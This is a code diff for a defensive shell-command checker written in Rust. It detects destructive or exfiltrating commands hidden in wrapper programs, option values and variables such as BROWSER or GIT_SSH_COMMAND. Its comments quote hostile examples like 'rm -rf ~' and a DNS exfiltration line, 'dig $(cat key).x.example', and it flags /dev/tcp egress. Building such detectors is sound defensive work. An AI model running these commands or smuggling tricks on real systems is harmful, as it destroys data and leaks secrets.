@@ -1,15 +1,165 @@
-//! Commands hidden in the words of a program sentinel has no spec for (SPEC 2.2): `runuser -u u
-//! -- rm -rf ~`, `chroot / rm -rf /home/u`, `tmux new-session -d 'rm -rf ~'`, `flock -c '…'`.
-//! Such a program is uncertain anyway; what its words would run is judged by the same Tier 1,
-//! and a deny inside is a deny of the whole. The same reading tells the fail path (SPEC 2.6)
-//! whether an unknown program is harmless: none of its words may be a command, a path outside
-//! the project, a credential or a network destination.
+//! Commands hidden where a program runs them (SPEC 2.2): in the words of a program sentinel has
+//! no spec for (`runuser -u u -- rm -rf ~`, `chroot / rm -rf /home/u`, `tmux new-session -d
+//! 'rm -rf ~'`), in an option value that names a program to run (`git grep -O'rm -rf ~'`,
+//! `go test -exec '…'`), in a variable that names one (`BROWSER='sh -c …' gh … --web`). Such a
+//! command is uncertain anyway; what it would run is judged by the same Tier 1, and a deny
+//! inside is a deny of the whole. The same reading tells the fail path (SPEC 2.6) whether an
+//! unknown program is harmless: none of its words may be a command, a value known only at run
+//! time, a path outside the project, a credential or a network destination. And data can leave
+//! by ways no option names ([`hidden_egress`]).
 
+use crate::decision::Decision;
+use crate::decision::Verdict;
 use crate::decision::effect::Effect;
 use crate::local::context::Context;
+use crate::local::options;
+use crate::local::policy::Part;
+use crate::local::spec::Kind;
 use crate::rules::Rules;
 use crate::shell::{self, SimpleCommand, Word, WordKind};
 use std::path::Path;
+
+/// Variables whose value a program runs as a command.
+const COMMAND_VARIABLES: &[&str] = &[
+    "BROWSER",
+    "EDITOR",
+    "VISUAL",
+    "PAGER",
+    "MANPAGER",
+    "GIT_PAGER",
+    "GIT_EDITOR",
+    "GIT_SEQUENCE_EDITOR",
+    "GIT_SSH_COMMAND",
+    "GIT_SSH",
+    "GIT_ASKPASS",
+    "SSH_ASKPASS",
+    "SUDO_ASKPASS",
+    "GIT_EXTERNAL_DIFF",
+    "KUBECTL_EXTERNAL_DIFF",
+    "LESSOPEN",
+    "LESSCLOSE",
+    "PROMPT_COMMAND",
+    "RSYNC_RSH",
+    "CVS_RSH",
+    "TERMINAL",
+];
+
+/// An uncertain command (`part`): what its words, its `run` values and its command variables
+/// would run is judged by `judge` (None past the nesting bound), and the first deny becomes the
+/// part's, naming the inner command. Otherwise, for a program or subcommand without a spec, or
+/// one its spec sends to review, what its words name is added to its effects for the fail path.
+pub(super) fn check(
+    cmd: &SimpleCommand,
+    part: &mut Part,
+    rules: &Rules,
+    ctx: &Context,
+    judge: Option<&dyn Fn(&str) -> Decision>,
+) {
+    let mut candidates: Vec<(String, String)> = Vec::new();
+    for (name, value) in &cmd.assignments {
+        if COMMAND_VARIABLES.contains(&name.as_str()) {
+            candidates.push((value.text.clone(), format!("`{name}` names")));
+        }
+    }
+    if part.verdict != Verdict::Uncertain {
+        judge_each(&candidates, part, judge);
+        return;
+    }
+    let reviewed = part
+        .effects
+        .iter()
+        .any(|e| matches!(e, Effect::Review { .. }));
+    let reading = options::read(&cmd.argv, &rules.specs);
+    let unknown = reading.as_ref().is_none_or(|r| r.unknown_subcommand);
+    if let Some(r) = &reading {
+        for v in r.values.iter().filter(|v| v.kind == Kind::Run) {
+            candidates.push((v.word.text.clone(), format!("`{}` runs", v.from)));
+        }
+    }
+    let texts = if reviewed || unknown {
+        texts(cmd, reading.as_ref().map_or(0, |r| r.subcommand_at), rules)
+    } else {
+        Vec::new()
+    };
+    let name = format!("`{}` would run", cmd.name());
+    candidates.extend(texts.iter().map(|t| (t.clone(), name.clone())));
+    if judge_each(&candidates, part, judge) {
+        return;
+    }
+    if reviewed || unknown {
+        let cwd = crate::local::judge::effective_cwd(cmd, ctx);
+        part.effects
+            .extend(risky_words(cmd, &texts, cwd.as_deref(), rules, ctx));
+    }
+}
+
+/// Judges each (text, how it runs) with `judge`; the first deny becomes the part's. True then.
+fn judge_each(
+    candidates: &[(String, String)],
+    part: &mut Part,
+    judge: Option<&dyn Fn(&str) -> Decision>,
+) -> bool {
+    let Some(judge) = judge else {
+        return false;
+    };
+    for (text, how) in candidates.iter().take(MAX_TEXTS) {
+        if text.len() > MAX_TEXT_BYTES {
+            continue;
+        }
+        let inner = judge(text);
+        if inner.verdict != Verdict::Deny {
+            continue;
+        }
+        let (why, rule) = match inner.commands.iter().find(|r| r.verdict == Verdict::Deny) {
+            Some(r) => (r.reason.clone(), r.rule.clone()),
+            None => (inner.reason.clone(), inner.rule.clone()),
+        };
+        // A rule's own reason follows its name in the answer; anything else is said here.
+        let said = match rule {
+            Some(_) => String::new(),
+            None => format!(": {why}"),
+        };
+        *part = Part::new(
+            Verdict::Deny,
+            format!("{how} `{}`{said}", shell::excerpt(text)),
+            rule,
+        );
+        return true;
+    }
+    false
+}
+
+/// Data leaving by a way no option names: a redirection to `/dev/tcp` or `/dev/udp`, or a
+/// network request whose destination is built from command output (`dig $(cat key).x.example`
+/// sends the output in the name it looks up). With a credential read in the same call, the call
+/// is denied.
+pub(super) fn hidden_egress(cmd: &SimpleCommand, effects: &[Effect]) -> Option<String> {
+    if let Some(r) = cmd
+        .redirects
+        .iter()
+        .find(|r| r.kind.writes() && crate::local::policy::socket_path(&r.target.text).is_some())
+    {
+        return Some(format!("writes to the network socket {}", r.target.text));
+    }
+    let network = effects.iter().any(|e| {
+        matches!(
+            e,
+            Effect::Fetch | Effect::Receive { .. } | Effect::Send { .. }
+        )
+    });
+    if !network {
+        return None;
+    }
+    cmd.args()
+        .iter()
+        .find(|w| w.kind == WordKind::Computed && (w.text.contains("$(") || w.text.contains('`')))
+        .map(|w| {
+            format!(
+                "a request built from command output (`{}`)",
+                shell::excerpt(&w.text)
+            )
+        })
+}
 
 /// At most this many embedded texts are judged for one command, each at most this long: the
 /// work stays bounded whatever the command.
@@ -33,7 +183,7 @@ const DESCRIBERS: &[&str] = &[
 /// and each suffix of argv that starts with a program name sentinel knows (`runuser -u u --
 /// rm -rf ~` → `rm -rf ~`). Words up to argv index `named` name the program and its
 /// subcommands (`aws s3 cp`) and are not looked at.
-pub(super) fn texts(cmd: &SimpleCommand, named: usize, rules: &Rules) -> Vec<String> {
+fn texts(cmd: &SimpleCommand, named: usize, rules: &Rules) -> Vec<String> {
     let mut out = Vec::new();
     if DESCRIBERS.contains(&cmd.name()) {
         return out;
@@ -73,7 +223,7 @@ pub(super) fn texts(cmd: &SimpleCommand, named: usize, rules: &Rules) -> Vec<Str
 /// Effects that make an unknown program's call more than a harmless unknown, from its words:
 /// an embedded command, a word known only at run time, a path outside the project, a
 /// credential, a network destination. Each is an [`Effect::Unknown`] naming the word: never allowed unchecked.
-pub(super) fn risky_words(
+fn risky_words(
     cmd: &SimpleCommand,
     embedded: &[String],
     cwd: Option<&Path>,
